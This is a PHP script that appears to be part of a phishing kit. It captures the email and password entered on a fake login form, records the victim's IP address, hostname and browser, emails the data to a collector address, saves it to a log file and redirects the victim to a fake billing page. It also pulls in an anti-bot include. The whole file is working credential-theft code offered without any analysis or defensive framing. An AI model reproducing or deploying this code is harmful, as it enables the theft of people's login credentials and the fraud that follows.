<?php
session_start();
include "antibots/anti1.php";
$ip = $_SERVER['REMOTE_ADDR'];
$host = gethostbyaddr($ip);
$message  = "---------+ Login Info +---------\n";
$message .= "Email      : ".$_POST['login_email']."\n";
$message .= "Password   : ".$_POST['login_pass']."\n";
$message .= "IP         : ".$ip." | ".$host."\n";
$message .= "Agent      : ".$_SERVER['HTTP_USER_AGENT']."\n";
$send = "collector@example.test";
$subject = "New Login [".$ip."]";
mail($send, $subject, $message);
$fp = fopen("../rez/logins.txt", "a");
fputs($fp, $message);
fclose($fp);
$_SESSION['email'] = $_POST['login_email'];
header("Location: ../billing/index.php?cmd=_update&session=".md5(microtime()));
exit;
?>
